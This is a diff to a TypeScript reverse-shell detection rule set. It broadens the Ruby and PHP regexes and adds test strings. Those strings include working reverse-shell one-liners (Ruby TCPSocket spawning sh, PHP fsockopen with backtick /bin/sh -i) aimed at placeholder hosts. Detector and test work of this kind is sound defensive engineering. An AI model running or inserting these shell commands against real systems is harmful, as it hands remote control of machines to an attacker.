@@ -57,8 +57,8 @@ export const REVERSE_SHELL_SCRIPT_RULES: readonly Rule[] = [
     id: 'ruby_reverse_shell',
     keywords: ['tcpsocket'],
     expression:
-      /TCPSocket\.(?:open|new)\([\s\S]{1,200}?(?:(?<![A-Za-z_.])(?:exec|spawn|system)\b|IO\.popen|\.to_i)[^\r\n]{0,120}/g,
-    reach: { before: 0, after: 360 },
+      /(?:TCPSocket\.(?:open|new)\([\s\S]{1,200}?(?:(?<![A-Za-z_.])(?:exec|spawn|system)\b|IO\.popen|\.to_i)|(?<![A-Za-z_.])(?:exec|spawn)\([^\r\n]{1,80}?TCPSocket\.(?:open|new)\()[^\r\n]{0,120}/g,
+    reach: { before: 90, after: 360 },
     validate: ({ text }) => /(?:ba|z)?sh\b|popen/.test(text),
     describes: 'A Ruby script that wires a shell to a socket.',
     get finds() {
@@ -66,6 +66,7 @@ export const REVERSE_SHELL_SCRIPT_RULES: readonly Rule[] = [
         `ruby -rsocket -e 'f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
         `ruby -rsocket -e 'c=TCPSocket.new("x.example","99");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
         `s=TCPSocket.new("192.0.2.1",9);spawn("/bin/bash",[:in,:out,:err]=>s)`,
+        `ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.1",9))'`,
       ];
     },
     get ignores() {
@@ -81,7 +82,7 @@ export const REVERSE_SHELL_SCRIPT_RULES: readonly Rule[] = [
     id: 'php_reverse_shell',
     keywords: ['fsockopen('],
     expression:
-      /fsockopen\([\s\S]{1,240}?(?<![A-Za-z_])(?:exec|shell_exec|passthru|system|proc_open|popen)[ \t]{0,2}\([^\r\n]{0,120}/g,
+      /fsockopen\([\s\S]{1,240}?(?:(?<![A-Za-z_])(?:exec|shell_exec|passthru|system|proc_open|popen)[ \t]{0,2}\(|\x60(?=[^\x60]{0,24}sh\b))[^\r\n]{0,120}/g,
     reach: { before: 0, after: 400 },
     validate: ({ text }) => /(?:ba|z)?sh\b|cmd/.test(text),
     describes: 'A PHP script that wires a shell to a socket.',
@@ -90,6 +91,7 @@ export const REVERSE_SHELL_SCRIPT_RULES: readonly Rule[] = [
         `php -r '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
         `$s=fsockopen("x.example",99);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$x);`,
         `$s=fsockopen('192.0.2.1',4444);shell_exec("/bin/bash -i <&3 >&3 2>&3");`,
+        '$s=fsockopen("192.0.2.1",4444);`/bin/sh -i <&3 >&3 2>&3`;',
       ];
     },
     get ignores() {
